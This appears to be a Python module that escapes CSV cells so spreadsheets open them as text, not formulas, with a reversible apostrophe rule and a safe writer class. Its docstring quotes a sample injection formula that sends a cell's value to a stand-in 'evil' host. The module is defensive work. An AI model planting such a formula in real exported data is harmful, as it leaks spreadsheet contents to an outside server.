"""CSV cells that a spreadsheet opens as text, never as a formula.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (and, in some of them,
a tab or a carriage return) as a formula, so a participant's answer or a facilitator's
note like `=HYPERLINK("http://evil/?"&A1,"x")` would run in the analyst's spreadsheet.
Following OWASP's advice ("CSV Injection"), such a text cell gets one apostrophe in
front: spreadsheets show it as text. Numbers (`-3`, `+1.5`, `-2e3`) stay as they are, so
numeric columns keep their negative values.

The rule is reversible: a text that already starts with apostrophes followed by one of
those characters gets one more, and `raw_cell` removes exactly one. `evaluation` reads
the notes table through `raw_cell`, so a report shows the note as written. Parquet files
keep raw values and need none of this.

`defusedcsv` does the same job but also rewrites `|` inside a cell and cannot be undone
exactly, which would change answers; these few lines keep the data intact.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_NEUTRALISED = re.compile(r"'+[=+\-@\t\r]")


def safe_cell(value: Any) -> Any:
    """`value` as a cell no spreadsheet runs as a formula (non-text values unchanged)."""
    if not isinstance(value, str) or not value:
        return value
    if value[0] in FORMULA_STARTS:
        return value if _NUMBER.fullmatch(value) else "'" + value
    if _NEUTRALISED.match(value):
        return "'" + value
    return value


def raw_cell(text: str) -> str:
    """The text `safe_cell` was given: one protective apostrophe removed."""
    return text[1:] if _NEUTRALISED.match(text) else text


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


class SafeCSVWriter:
    """`csv.writer` whose every text cell goes through `safe_cell`."""

    def __init__(self, handle: _Writable, **options: Any) -> None:
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        self._writer.writerows(safe_row(row) for row in rows)
